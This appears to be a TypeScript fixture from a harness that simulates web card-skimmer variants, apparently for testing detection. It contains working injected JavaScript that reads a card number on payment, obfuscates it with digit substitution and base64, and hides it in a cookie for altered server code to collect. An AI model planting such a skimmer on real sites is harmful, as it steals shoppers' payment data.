import { holds, js, skimmer } from '../behaviour.ts';
import { at, base64 } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'stash-cookie',
  why: "A cookie of the shop carries it: the browser itself hands it to the shop's server with every later request, where altered PHP takes it.",
  covers: ['hard: stash', 'sending: relay', 'encoding: substitution'],
  base: 'direct',
  install: (site) =>
    site.append(
      onPay(js`
    var turned = card().replace(/[0-9]/g, function (d) { return 'qwertyuiop'[d]; });
    document.cookie = '_uid=' + encodeURIComponent(btoa(turned)) + '; path=/; max-age=600';`),
    ),
  proof: holds((arrived) =>
    at(arrived, 'shop').map(({ headers }) =>
      base64(decodeURIComponent(/_uid=([^;]+)/.exec(headers.cookie ?? '')?.[1] ?? '')).replace(
        /[qwertyuiop]/g,
        (c) => String('qwertyuiop'.indexOf(c)),
      ),
    ),
  ),
});
